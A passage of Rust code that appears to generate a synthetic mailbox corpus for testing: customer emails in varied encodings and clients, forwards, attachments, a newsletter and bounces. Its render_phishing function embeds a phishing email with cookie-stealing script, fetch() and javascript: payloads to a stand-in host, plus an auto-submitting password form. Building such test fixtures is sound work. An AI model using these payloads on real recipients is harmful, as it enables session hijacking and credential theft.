                h.push_str("Thread-Topic: ");
                h.push_str(&encode_subject(&self.subject(c)));
                h.push_str("\r\nThread-Index: ");
                h.push_str(&base64(&index_bytes));
                h.push_str("\r\nX-Mailer: Microsoft Outlook 16.0\r\nContent-Language: ");
                h.push_str(if conv.lang == Lang::Nl {
                    "nl-NL"
                } else {
                    "en-GB"
                });
                h.push_str("\r\n");
            }
            Client::Apple => h.push_str("X-Mailer: iPhone Mail (21D61)\r\n"),
            Client::Thunderbird => h.push_str("User-Agent: Mozilla Thunderbird\r\n"),
            Client::Gmail => {}
        }
        h.push_str("MIME-Version: 1.0\r\n");
    }

    fn customer_host(&self, c: usize) -> String {
        let address = self.customer_address(c);
        address
            .rsplit_once('@')
            .map_or("example.com", |(_, d)| d)
            .to_owned()
    }

    fn inbox_flags(&self, c: usize, k: usize) -> (bool, bool) {
        let conv = self.conv(c);
        let at = conv.msgs[k].at;
        let answered = conv
            .msgs
            .get(k + 1)
            .is_some_and(|n| n.kind == MsgKind::Team);
        let recent = self.options.now - at < 2 * DAY;
        let seen = answered || !recent || conv.index.is_multiple_of(3);
        (seen, answered)
    }

    fn render_customer(&self, c: usize, k: usize) -> CorpusMessage {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        let body = self.body(c, k, 3);
        let mut h = String::with_capacity(body.text.len() * 2 + 1500);
        self.customer_headers(c, k, &mut h);
        let mut raw = h.into_bytes();
        let first = k == 0;
        let special = conv.special;
        let attachments_here = special == Some(Special::Attachments) && (first || k == 2);
        match special {
            Some(Special::Rfc822Forward) if first => {
                let inner = self.carrier_notification(c);
                let note = if conv.lang == Lang::Nl {
                    "Zie de bijgevoegde mail van de vervoerder. Kunnen jullie dit oplossen?\n\n"
                } else {
                    "Please see the attached email from the carrier. Can you sort this out?\n\n"
                };
                // The note goes right after the greeting.
                let text = match body.text.split_once("\n\n") {
                    Some((greeting, rest)) => format!("{greeting}\n\n{note}{rest}"),
                    None => format!("{note}{}", body.text),
                };
                raw = self.rfc822_forward(c, k, &text, &inner);
            }
            Some(Special::InlineForward) if first => {
                let forwarded = self.order_confirmation(c);
                let text = format!("{}\n\n{forwarded}", body.text);
                plain_body(&mut raw, &text, TextEncoding::EightBit);
            }
            Some(Special::Latin1) if first => {
                plain_body(&mut raw, &body.text, TextEncoding::Latin1Qp)
            }
            Some(Special::Windows1252) if first => {
                plain_body(&mut raw, &body.text, TextEncoding::Windows1252)
            }
            Some(Special::QuotedPrintable) if first => {
                plain_body(&mut raw, &body.text, TextEncoding::QuotedPrintable)
            }
            Some(Special::Base64Text) if first => {
                plain_body(&mut raw, &body.text, TextEncoding::Base64)
            }
            Some(Special::UnknownCharset) if first => {
                plain_body(&mut raw, &body.text, TextEncoding::UnknownLabel)
            }
            Some(Special::InvalidUtf8) if first => {
                plain_body(&mut raw, &body.text, TextEncoding::InvalidUtf8)
            }
            _ if attachments_here => {
                let png = png_image(
                    8 + conv.index % 8,
                    6,
                    [180, 60 + (conv.index % 100) as u8, 40],
                );
                let csv = csv_order_list(c, self);
                let photo = if conv.lang == Lang::Nl {
                    "foto schade stoel.png"
                } else {
                    "photo damaged desk.png"
                };
                let list = if conv.lang == Lang::Nl {
                    "Bestellijst März – café.csv"
                } else {
                    "Order list – Café de Hoek.csv"
                };
                let pdf = pdf_document(&format!("Purchase order {}", conv.order));
                let pdf_name = format!("Inkooporder {} – Çelik & Zonen.pdf", conv.order);
                let files = [
                    Attachment {
                        name: photo,
                        mime: "image/png",
                        bytes: &png,
                    },
                    Attachment {
                        name: list,
                        mime: "text/csv",
                        bytes: csv.as_bytes(),
                    },
                    Attachment {
                        name: &pdf_name,
                        mime: "application/pdf",
                        bytes: &pdf,
                    },
                ];
                let count = if first { 3 } else { 1 };
                match &body.html {
                    Some(html) => mixed(
                        &mut raw,
                        c,
                        k,
                        |raw| alternative_part(raw, c, k, &body.text, html),
                        &files[..count],
                    ),
                    None => mixed(
                        &mut raw,
                        c,
                        k,
                        |raw| plain_part(raw, &body.text),
                        &files[..count],
                    ),
                }
            }
            _ => {
                match &body.html {
                    Some(html) => {
                        let boundary = boundary(c, k, "alt");
                        raw.extend_from_slice(format!("Content-Type: multipart/alternative; boundary=\"{boundary}\"\r\n\r\n").as_bytes());
                        alternative_parts(&mut raw, &boundary, &body.text, html);
                    }
                    None => plain_body(&mut raw, &body.text, TextEncoding::EightBit),
                }
            }
        }
        let (seen, answered) = self.inbox_flags(c, k);
        CorpusMessage {
            folder: CorpusFolder::Inbox,
            received_at: m.at,
            seen,
            answered,
            raw,
        }
    }

    /// The carrier's notification a customer forwards as an attachment.
    fn carrier_notification(&self, c: usize) -> Vec<u8> {
        let conv = self.conv(c);
        let carrier = CARRIERS[conv.carrier as usize % CARRIERS.len()];
        // The afternoon of the working day before the customer wrote.
        let mut day = (conv.msgs[0].at + Zone::Europe.offset(conv.msgs[0].at)).div_euclid(DAY) - 1;
        while (day + 3).rem_euclid(7) >= 5 {
            day -= 1;
        }
        let local = day * DAY + 13 * HOUR + i64::from(conv.index % 180) * 60;
        let at = local - Zone::Europe.offset(local);
        let slug = ascii_slug(carrier, "");
        let text = if conv.lang == Lang::Nl {
            format!(
                "Beste {},\n\nWe konden je pakket vandaag niet bezorgen omdat er niemand thuis was. Je pakket ligt vanaf morgen 12:00 uur klaar bij het {carrier}-punt.\n\nTrack & trace: 3SBRD{:09}\n\nMet vriendelijke groet,\n{carrier} Klantenservice",
                self.person(c).first,
                conv.order as u64 * 7919 % 1_000_000_000
            )
        } else {
            format!(
                "Dear {},\n\nWe could not deliver your parcel today because nobody was home. It can be collected from the {carrier} point from tomorrow 12:00.\n\nTracking: 3SBRD{:09}\n\nKind regards,\n{carrier} Customer Service",
                self.person(c).first,
                conv.order as u64 * 7919 % 1_000_000_000
            )
        };
        let mut h = String::new();
        header(
            &mut h,
            "From",
            &format!("{carrier} <noreply@{slug}.example>"),
        );
        header(
            &mut h,
            "To",
            &mailbox(&self.full_name(c), &self.customer_address(c)),
        );
        header(
            &mut h,
            "Subject",
            if conv.lang == Lang::Nl {
                "Je pakket kon niet worden bezorgd"
            } else {
                "We could not deliver your parcel"
            },
        );
        header(&mut h, "Date", &rfc5322_date(at, Zone::Europe));
        header(
            &mut h,
            "Message-ID",
            &format!(
                "<{:016x}@notify.{slug}.example>",
                mix(u64::from(conv.index) ^ 0xCA11)
            ),
        );
        h.push_str("MIME-Version: 1.0\r\n");
        let mut raw = h.into_bytes();
        plain_body(&mut raw, &text, TextEncoding::QuotedPrintable);
        raw
    }

    fn rfc822_forward(&self, c: usize, k: usize, text: &str, inner: &[u8]) -> Vec<u8> {
        let mut h = String::new();
        self.customer_headers(c, k, &mut h);
        let b = boundary(c, k, "mix");
        h.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"{b}\"\r\n\r\n--{b}\r\n"
        ));
        let mut raw = h.into_bytes();
        plain_part(&mut raw, text);
        raw.extend_from_slice(format!("\r\n--{b}\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n").as_bytes());
        raw.extend_from_slice(inner);
        raw.extend_from_slice(format!("\r\n--{b}--\r\n").as_bytes());
        raw
    }

    /// The order confirmation a customer forwards inline (Gmail style).
    fn order_confirmation(&self, c: usize) -> String {
        let conv = self.conv(c);
        let vars = self.vars(c, conv.member);
        let at = conv.msgs[0].at - 9 * DAY;
        let nl = conv.lang == Lang::Nl;
        let t = local_time(at, Zone::Europe);
        let date = if nl {
            format!(
                "{} {} {} {} om {:02}:{:02}",
                WEEKDAYS_NL[t.weekday],
                t.day,
                MONTHS_NL[(t.month - 1) as usize],
                t.year,
                t.hour,
                t.minute
            )
        } else {
            format!(
                "{}, {} {} {} at {:02}:{:02}",
                WEEKDAYS_EN[t.weekday],
                t.day,
                MONTHS_EN[(t.month - 1) as usize],
                t.year,
                t.hour,
                t.minute
            )
        };
        let body = if nl {
            "Bedankt voor je bestelling {order}!\n\n1 x {product}    {amount}\nVerzending: gratis\nTotaal: {amount}\n\nWe sturen je een track & trace zodra je bestelling onderweg is."
        } else {
            "Thank you for your order {order}!\n\n1 x {product}    {amount}\nShipping: free\nTotal: {amount}\n\nWe'll send you a tracking code as soon as your order ships."
        };
        format!(
            // Gmail writes "Van:" in Dutch but keeps the other labels in English.
            "---------- Forwarded message ---------\n{}: {} <orders@{}>\nDate: {date}\nSubject: {}\nTo: {} <{}>\n\n{}",
            if nl { "Van" } else { "From" },
            self.options.company,
            self.domain,
            fill(
                if nl {
                    "Orderbevestiging {order}"
                } else {
                    "Order confirmation {order}"
                },
                &vars
            ),
            self.full_name(c),
            self.customer_address(c),
            fill(body, &vars)
        )
    }

    fn render_newsletter(&self, c: usize, k: usize) -> CorpusMessage {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        let cid = conv.special == Some(Special::NewsletterCid);
        let sender = "news@officesupplies.example.com";
        let mut h = String::new();
        header(
            &mut h,
            "From",
            &format!("\"Office Supplies Weekly\" <{sender}>"),
        );
        header(&mut h, "To", &self.options.shared_address);
        header(&mut h, "Subject", &self.subject(c));
        header(&mut h, "Date", &rfc5322_date(m.at - 30, Zone::Europe));
        header(
            &mut h,
            "Message-ID",
            &format!(
                "<nl.{:016x}@mailer.officesupplies.example.com>",
                mix(self.options.seed ^ u64::from(conv.index))
            ),
        );
        h.push_str("List-Unsubscribe: <https://officesupplies.example.com/unsubscribe?u=8812>, <mailto:unsubscribe@officesupplies.example.com>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nPrecedence: bulk\r\nMIME-Version: 1.0\r\n");
        let text = "Spring offers at Office Supplies Weekly\n\n30% off all desk lamps this week. Bright ideas for dark mornings.\n\nShop now: https://officesupplies.example.com/lamps?utm_source=newsletter\n\nUnsubscribe: https://officesupplies.example.com/unsubscribe?u=8812";
        let logo_src = if cid {
            "cid:logo-osw@officesupplies.example.com".to_owned()
        } else {
            "https://cdn.officesupplies.example.com/img/logo.png".to_owned()
        };
        let html = format!(
            "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width\">\r\n<style type=\"text/css\">\r\nbody{{margin:0;padding:0;background:#f4f4f4}}\r\n.btn{{background:#0a7d5a;color:#ffffff;padding:12px 24px;border-radius:4px;text-decoration:none;font-weight:bold}}\r\n@media only screen and (max-width:600px){{ .container{{width:100% !important}} }}\r\n</style></head>\r\n<body>\r\n<span style=\"display:none;font-size:1px;color:#f4f4f4\">30% off all desk lamps &ndash; this week only</span>\r\n<table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" bgcolor=\"#f4f4f4\"><tr><td align=\"center\">\r\n<table class=\"container\" width=\"600\" cellpadding=\"24\" cellspacing=\"0\" bgcolor=\"#ffffff\" style=\"font-family:Arial,Helvetica,sans-serif;color:#333333\">\r\n<tr><td><img src=\"{logo_src}\" width=\"180\" height=\"48\" alt=\"Office Supplies Weekly\"></td></tr>\r\n<tr><td><img src=\"https://cdn.officesupplies.example.com/img/spring-lamps.jpg\" width=\"552\" alt=\"Desk lamps\" style=\"display:block;width:100%\"></td></tr>\r\n<tr><td><h1 style=\"font-size:24px;margin:0 0 12px\">30% off all desk lamps</h1>\r\n<p style=\"font-size:16px;line-height:24px;margin:0 0 20px\">Bright ideas for dark mornings. This week only, while stocks last.</p>\r\n<a class=\"btn\" href=\"https://officesupplies.example.com/lamps?utm_source=newsletter\">Shop now</a></td></tr>\r\n<tr><td style=\"font-size:12px;color:#888888\">You receive this email because you subscribed at officesupplies.example.com. <a href=\"https://officesupplies.example.com/unsubscribe?u=8812\" style=\"color:#888888\">Unsubscribe</a></td></tr>\r\n</table></td></tr></table>\r\n<img src=\"https://t.officesupplies.example.com/open.gif?u=8812&amp;c=spring\" width=\"1\" height=\"1\" alt=\"\">\r\n</body></html>"
        );
        let mut raw = h.into_bytes();
        if cid {
            let rel = boundary(c, k, "rel");
            let alt = boundary(c, k, "alt");
            raw.extend_from_slice(format!("Content-Type: multipart/related; boundary=\"{rel}\"; type=\"multipart/alternative\"\r\n\r\n--{rel}\r\nContent-Type: multipart/alternative; boundary=\"{alt}\"\r\n\r\n").as_bytes());
            alternative_parts(&mut raw, &alt, text, &html);
            let logo = png_image(24, 8, [10, 125, 90]);
            raw.extend_from_slice(format!("\r\n--{rel}\r\nContent-Type: image/png; name=\"logo.png\"\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <logo-osw@officesupplies.example.com>\r\nContent-Disposition: inline; filename=\"logo.png\"\r\n\r\n").as_bytes());
            raw.extend_from_slice(base64_lines(&logo).as_bytes());
            raw.extend_from_slice(format!("--{rel}--\r\n").as_bytes());
        } else {
            let alt = boundary(c, k, "alt");
            raw.extend_from_slice(
                format!("Content-Type: multipart/alternative; boundary=\"{alt}\"\r\n\r\n")
                    .as_bytes(),
            );
            alternative_parts(&mut raw, &alt, text, &html);
        }
        CorpusMessage {
            folder: CorpusFolder::Inbox,
            received_at: m.at,
            seen: true,
            answered: false,
            raw,
        }
    }

    fn render_phishing(&self, c: usize, k: usize) -> CorpusMessage {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        let mut h = String::new();
        header(
            &mut h,
            "From",
            &format!(
                "\"{} IT-afdeling\" <it-support@brightdesk-secure.example.net>",
                self.options.company
            ),
        );
        header(&mut h, "Reply-To", "<helpdesk@account-verify.example.net>");
        header(&mut h, "To", &self.options.shared_address);
        header(&mut h, "Subject", &encode_subject(&self.subject(c)));
        header(&mut h, "Date", &rfc5322_date(m.at - 11, Zone::Utc));
        header(
            &mut h,
            "Message-ID",
            &format!(
                "<{:016x}@brightdesk-secure.example.net>",
                mix(u64::from(conv.index) ^ 0xF15B)
            ),
        );
        h.push_str("X-Priority: 1 (Highest)\r\nMIME-Version: 1.0\r\n");
        let text = "Beste gebruiker,\n\nUw mailbox heeft 98% van de opslag bereikt. Bevestig binnen 24 uur uw account, anders worden nieuwe berichten geweigerd.\n\nBevestig hier: https://account-verify.example.net/login\n\nIT-afdeling";
        let html = "<html><head><title>Mailbox</title><meta http-equiv=\"refresh\" content=\"5;url=https://account-verify.example.net/login\"><script>window.location='https://account-verify.example.net/?c='+document.cookie</script><style>.overlay{position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999}</style></head>\r\n<body onload=\"document.forms[0].submit()\">\r\n<div class=\"overlay\"><p>Beste gebruiker,</p>\r\n<p>Uw mailbox heeft <b>98%</b> van de opslag bereikt. Bevestig binnen 24 uur uw account, anders worden nieuwe berichten geweigerd.</p>\r\n<p><a href=\"javascript:document.location='https://account-verify.example.net/login?u='+encodeURIComponent(document.cookie)\">Bevestig uw account</a></p>\r\n<img src=\"x\" onerror=\"fetch('https://account-verify.example.net/p?'+document.cookie)\">\r\n<form action=\"https://account-verify.example.net/collect\" method=\"post\">E-mail: <input name=\"u\"> Wachtwoord: <input type=\"password\" name=\"p\"><button type=\"submit\">Bevestigen</button></form>\r\n<iframe src=\"https://account-verify.example.net/frame\" width=\"0\" height=\"0\"></iframe>\r\n<p style=\"font-size:11px;color:#999\">&copy; 2026 IT-afdeling</p></div>\r\n</body></html>";
        let mut raw = h.into_bytes();
        let alt = boundary(c, k, "alt");
        raw.extend_from_slice(
            format!("Content-Type: multipart/alternative; boundary=\"{alt}\"\r\n\r\n").as_bytes(),
        );
        alternative_parts(&mut raw, &alt, text, html);
        let (seen, _) = self.inbox_flags(c, k);
        CorpusMessage {
            folder: CorpusFolder::Inbox,
            received_at: m.at,
            seen,
            answered: false,
            raw,
        }
    }

    fn render_bounce(&self, c: usize, k: usize, of: usize) -> CorpusMessage {
        let conv = self.conv(c);
        let m = conv.msgs[k];
        let original = self.render_team(c, of).raw;
        let recipient = self.customer_address(c);
        let host = self.customer_host(c);
        let full = conv.index.is_multiple_of(2);
        let (status, diagnostic, human) = if full {
            (
                "5.2.2",
                format!("smtp; 552 5.2.2 <{recipient}>: Mailbox full"),
                format!(
                    "<{recipient}>: host mx.{host}[198.51.100.{}] said: 552 5.2.2\r\n    <{recipient}>: Mailbox full (in reply to RCPT TO command)",
                    conv.index % 200 + 1
                ),
            )
        } else {
            (
                "5.1.1",
                format!(
                    "smtp; 550 5.1.1 <{recipient}>: Recipient address rejected: User unknown in virtual mailbox table"
                ),
                format!(
                    "<{recipient}>: host mx.{host}[198.51.100.{}] said: 550 5.1.1\r\n    <{recipient}>: Recipient address rejected: User unknown in virtual\r\n    mailbox table (in reply to RCPT TO command)",
                    conv.index % 200 + 1
                ),
            )
        };
        let queue_id = format!(
            "{:010X}",
            mix(u64::from(conv.index) ^ 0xB0B0) & 0xFF_FFFF_FFFF
        );
        let b = format!("{queue_id}.{}/mail.{}", m.at, self.domain);
        let mut h = String::new();
        h.push_str("Return-Path: <>\r\n");
        header(
            &mut h,
            "From",
            &format!("MAILER-DAEMON@mail.{} (Mail Delivery System)", self.domain),
        );
        header(&mut h, "To", &self.options.shared_address);
        header(&mut h, "Subject", "Undelivered Mail Returned to Sender");
        header(
            &mut h,
            "Date",
            &format!("{} (CET)", rfc5322_date(m.at, Zone::Europe)),
        );
        header(&mut h, "Message-ID", &self.message_id(c, k));
        h.push_str("Auto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\n");
        h.push_str(&format!("Content-Type: multipart/report; report-type=delivery-status;\r\n\tboundary=\"{b}\"\r\n\r\nThis is a MIME-encapsulated message.\r\n\r\n--{b}\r\nContent-Description: Notification\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nThis is the mail system at host mail.{}.\r\n\r\nI'm sorry to have to inform you that your message could not\r\nbe delivered to one or more recipients. It's attached below.\r\n\r\nFor further assistance, please send mail to postmaster.\r\n\r\nIf you do so, please include this problem report. You can\r\ndelete your own text from the attached returned message.\r\n\r\n                   The mail system\r\n\r\n{human}\r\n\r\n--{b}\r\nContent-Description: Delivery report\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mail.{}\r\nX-Postfix-Queue-ID: {queue_id}\r\nX-Postfix-Sender: rfc822; {}\r\nArrival-Date: {}\r\n\r\nFinal-Recipient: rfc822; {recipient}\r\nOriginal-Recipient: rfc822;{recipient}\r\nAction: failed\r\nStatus: {status}\r\nRemote-MTA: dns; mx.{host}\r\nDiagnostic-Code: {diagnostic}\r\n\r\n--{b}\r\nContent-Description: Undelivered Message\r\nContent-Type: message/rfc822\r\n\r\n",
            self.domain,
            self.domain,
            self.options.shared_address,
            rfc5322_date(conv.msgs[of].at, Zone::Europe),
        ));
        let mut raw = h.into_bytes();
        raw.extend_from_slice(&original);
        if !original.ends_with(b"\r\n") {
            raw.extend_from_slice(b"\r\n");
        }
        raw.extend_from_slice(format!("\r\n--{b}--\r\n").as_bytes());
        let recent = self.options.now - m.at < 2 * DAY;
        CorpusMessage {
            folder: CorpusFolder::Inbox,
            received_at: m.at,
            seen: !recent,
            answered: false,
            raw,
        }
    }
}

// ---------------------------------------------------------------------------------
// Quoting styles.

fn quote_lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 20 + 8);
    for (i, line) in text.lines().enumerate() {
        if i > 0 {
            out.push('\n');
        }
        if line.is_empty() {
            out.push('>');
        } else if line.starts_with('>') {
            out.push('>');
            out.push_str(line);
        } else {
            out.push_str("> ");
            out.push_str(line);
        }
    }
    out
}

fn gmail_attribution(nl: bool, name: &str, address: &str, at: i64, zone: Zone) -> String {
    let t = local_time(at, zone);
    if nl {
        format!(
            "Op {} {} {} {} om {:02}:{:02} schreef {name} <{address}>:",
            WEEKDAYS_NL[t.weekday],
            t.day,
            MONTHS_NL[(t.month - 1) as usize],
            t.year,
            t.hour,
            t.minute
        )
    } else {
        format!(
            "On {}, {} {} {} at {:02}:{:02}, {name} <{address}> wrote:",
            WEEKDAYS_EN[t.weekday],
            t.day,
            MONTHS_EN[(t.month - 1) as usize],
            t.year,
            t.hour,
            t.minute
        )
    }
}

fn apple_attribution(nl: bool, name: &str, address: &str, at: i64, zone: Zone) -> String {
    let t = local_time(at, zone);
    if nl {
        format!(
            "Op {} {}. {} om {:02}:{:02} heeft {name} <{address}> het volgende geschreven:",
            t.day,
            MONTHS_NL[(t.month - 1) as usize],
            t.year,
            t.hour,
            t.minute
        )
    } else {
        format!(
            "On {} {} {}, at {:02}:{:02}, {name} <{address}> wrote:",
            t.day,
            MONTHS_EN[(t.month - 1) as usize],
            t.year,
            t.hour,
            t.minute
        )
    }
}

fn thunderbird_attribution(nl: bool, name: &str, at: i64, zone: Zone) -> String {
    let t = local_time(at, zone);
    if nl {
        format!(
            "Op {:02}-{:02}-{} om {:02}:{:02} schreef {name}:",
            t.day, t.month, t.year, t.hour, t.minute
        )
    } else {
        format!(
            "On {:02}/{:02}/{} {:02}:{:02}, {name} wrote:",
            t.day, t.month, t.year, t.hour, t.minute
        )
    }
}

fn outlook_header(
    nl: bool,
    name: &str,
    address: &str,
    at: i64,
    zone: Zone,
    to: &str,
    subject: &str,
) -> String {
    let t = local_time(at, zone);
    if nl {
        format!(
            "Van: {name} <{address}>\nVerzonden: {} {} {} {} {:02}:{:02}\nAan: {to}\nOnderwerp: {subject}",
            WEEKDAYS_NL_LONG[t.weekday],
            t.day,
            MONTHS_NL_LONG[(t.month - 1) as usize],
            t.year,
            t.hour,
            t.minute
        )
    } else {
        let (hour12, ampm) = match t.hour {
            0 => (12, "AM"),
            1..=11 => (t.hour, "AM"),
            12 => (12, "PM"),
            h => (h - 12, "PM"),
        };
        format!(
            "From: {name} <{address}>\nSent: {}, {} {}, {} {hour12}:{:02} {ampm}\nTo: {to}\nSubject: {subject}",
            WEEKDAYS_EN_LONG[t.weekday],
            MONTHS_EN_LONG[(t.month - 1) as usize],
            t.day,
            t.year,
            t.minute
        )
    }
}

// ---------------------------------------------------------------------------------
// HTML bodies.

fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    for ch in text.chars() {
        match ch {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            c => out.push(c),
        }
    }
    out
}

/// Paragraphs of plain text as HTML, `>`-quoted lines included as they are.
fn paragraphs_html(text: &str, open: &str, close: &str) -> String {
    let mut out = String::with_capacity(text.len() + 64);
    for para in text.split("\n\n") {
        out.push_str(open);
        out.push_str(&escape_html(para).replace('\n', "<br>"));
        out.push_str(close);
    }
    out
}

fn outlook_html(own: &str, signature: Option<&str>, quote: &str, nl: bool) -> String {
    let mut html = String::with_capacity(own.len() * 2 + quote.len() + 1500);
    html.push_str("<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:w=\"urn:schemas-microsoft-com:office:word\" xmlns:m=\"http://schemas.microsoft.com/office/2004/12/omml\" xmlns=\"http://www.w3.org/TR/REC-html40\">\r\n<head>\r\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\r\n<meta name=\"Generator\" content=\"Microsoft Word 15 (filtered medium)\">\r\n<style><!--\r\n/* Font Definitions */\r\n@font-face\r\n\t{font-family:\"Cambria Math\";\r\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\r\n@font-face\r\n\t{font-family:Calibri;\r\n\tpanose-1:2 15 5 2 2 2 4 3 2 4;}\r\n/* Style Definitions */\r\np.MsoNormal, li.MsoNormal, div.MsoNormal\r\n\t{margin:0cm;\r\n\tfont-size:11.0pt;\r\n\tfont-family:\"Calibri\",sans-serif;}\r\na:link, span.MsoHyperlink\r\n\t{mso-style-priority:99;\r\n\tcolor:#0563C1;\r\n\ttext-decoration:underline;}\r\n.MsoChpDefault\r\n\t{mso-style-type:export-only;}\r\n@page WordSection1\r\n\t{size:612.0pt 792.0pt;\r\n\tmargin:72.0pt 72.0pt 72.0pt 72.0pt;}\r\ndiv.WordSection1\r\n\t{page:WordSection1;}\r\n--></style><!--[if gte mso 9]><xml>\r\n<o:shapedefaults v:ext=\"edit\" spidmax=\"1026\" />\r\n</xml><![endif]-->\r\n</head>\r\n<body lang=\"");
    html.push_str(if nl { "NL" } else { "EN-GB" });
    html.push_str("\" link=\"#0563C1\" vlink=\"#954F72\" style=\"word-wrap:break-word\">\r\n<div class=\"WordSection1\">\r\n");
    html.push_str(&paragraphs_html(
        own,
        "<p class=\"MsoNormal\">",
        "<o:p></o:p></p>\r\n<p class=\"MsoNormal\"><o:p>&nbsp;</o:p></p>\r\n",
    ));
    if let Some(sig) = signature {
        html.push_str("<p class=\"MsoNormal\"><span style=\"font-size:9.0pt;color:#7F7F7F\">");
        html.push_str(&escape_html(sig).replace('\n', "<br>"));
        html.push_str("</span><o:p></o:p></p>\r\n");
    }
    if !quote.is_empty() {
        html.push_str("<div>\r\n");
        html.push_str(quote);
        html.push_str("\r\n</div>\r\n");
    }
    html.push_str("</div>\r\n</body>\r\n</html>");
    html
}

fn gmail_html(own: &str, signature: Option<&str>, quote: &str) -> String {
    let mut html = String::with_capacity(own.len() * 2 + quote.len() + 200);
    html.push_str("<div dir=\"ltr\">");
    for (i, para) in own.split("\n\n").enumerate() {
        if i > 0 {
            html.push_str("<div><br></div>");
        }
        html.push_str("<div>");
        html.push_str(&escape_html(para).replace('\n', "<br>"));
        html.push_str("</div>");
    }
    if let Some(sig) = signature {
        html.push_str("<div><br></div>-- <br><div dir=\"ltr\" class=\"gmail_signature\">");
        html.push_str(&escape_html(sig).replace('\n', "<br>"));
        html.push_str("</div>");
    }
    html.push_str("</div><br>");
    html.push_str(quote);
    html.push_str("\r\n");
    html
}

// ---------------------------------------------------------------------------------
// MIME writing.

fn header(out: &mut String, name: &str, value: &str) {
    out.push_str(name);
    out.push_str(": ");
    out.push_str(value);
    out.push_str("\r\n");
}

/// `"Name" <address>`, the name RFC 2047-encoded when it is not ASCII.
fn mailbox(name: &str, address: &str) -> String {
    if name.is_ascii() {
        format!("\"{}\" <{address}>", name.replace(['"', '\\'], ""))
    } else {
        format!("{} <{address}>", encode_word_b(name))
    }
}

/// RFC 2047 "B" encoding in UTF-8, split into words of at most 45 bytes.
fn encode_word_b(text: &str) -> String {
    let mut out = String::new();
    let mut start = 0;
    while start < text.len() {
        let mut end = (start + 45).min(text.len());
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        if !out.is_empty() {
            out.push_str("\r\n ");
        }
        out.push_str("=?UTF-8?B?");
        out.push_str(&base64(&text.as_bytes()[start..end]));
        out.push_str("?=");
        start = end;
    }
    out
}

/// Subjects: ASCII as is, otherwise RFC 2047 "Q" encoding in UTF-8.
fn encode_subject(text: &str) -> String {
    if text.is_ascii() {
        return text.to_owned();
    }
    let mut out = String::from("=?UTF-8?Q?");
    let mut word_len = 0;
    for &b in text.as_bytes() {
        if word_len > 60 && (b & 0xC0) != 0x80 {
            out.push_str("?=\r\n =?UTF-8?Q?");
            word_len = 0;
        }
        match b {
            b' ' => out.push('_'),
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b',' | b'-' | b'!' | b'/' | b':' => {
                out.push(b as char)
            }
            _ => {
                out.push_str(&format!("={b:02X}"));
                word_len += 2;
            }
        }
        word_len += 1;
    }
    out.push_str("?=");
    out
}

fn encode_word_latin1(text: &str) -> String {
    if text.is_ascii() {
        return text.to_owned();
    }
    let mut out = String::from("=?ISO-8859-1?Q?");
    for b in single_byte(text, Charset::Latin1) {
        match b {
            b' ' => out.push('_'),
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b',' | b'-' => out.push(b as char),
            _ => out.push_str(&format!("={b:02X}")),
        }
    }
    out.push_str("?=");
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Charset {
    Latin1,
    Windows1252,
}

/// Text in a single-byte character set; what it cannot hold becomes '?'.
fn single_byte(text: &str, charset: Charset) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    for ch in text.chars() {
        let code = ch as u32;
        let byte = match (ch, charset) {
            (_, _) if code < 0x80 => Some(code as u8),
            (_, _) if (0xA0..=0xFF).contains(&code) => Some(code as u8),
            ('€', Charset::Windows1252) => Some(0x80),
            ('‘', Charset::Windows1252) => Some(0x91),
            ('’', Charset::Windows1252) => Some(0x92),
            ('“', Charset::Windows1252) => Some(0x93),
            ('”', Charset::Windows1252) => Some(0x94),
            ('–', Charset::Windows1252) => Some(0x96),
            ('—', Charset::Windows1252) => Some(0x97),
            ('€', Charset::Latin1) => {
                out.extend_from_slice(b"EUR");
                None
            }
            ('–' | '—', Charset::Latin1) => Some(b'-'),
            ('‘' | '’', Charset::Latin1) => Some(b'\''),
            _ => Some(b'?'),
        };
        if let Some(b) = byte {
            out.push(b);
        }
    }
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum TextEncoding {
    /// UTF-8, 8bit (7bit when ASCII).
    EightBit,
    QuotedPrintable,
    Base64,
    Latin1Qp,
    Windows1252,
    /// Latin-1 bytes under a label nobody knows.
    UnknownLabel,
    /// Windows-1252 bytes that claim to be UTF-8.
    InvalidUtf8,
}

/// Text with CRLF line ends (whatever it had before).
fn crlf(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 30 + 2);
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push_str("\r\n");
        }
        out.push_str(line.strip_suffix('\r').unwrap_or(line));
    }
    out
}

fn crlf_bytes(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len() + bytes.len() / 30 + 2);
    for &b in bytes {
        if b == b'\n' {
            out.push(b'\r');
        }
        out.push(b);
    }
    out
}

/// Content headers and body of a single text/plain part.
fn text_part(out: &mut Vec<u8>, text: &str, encoding: TextEncoding) {
    match encoding {
        TextEncoding::EightBit => {
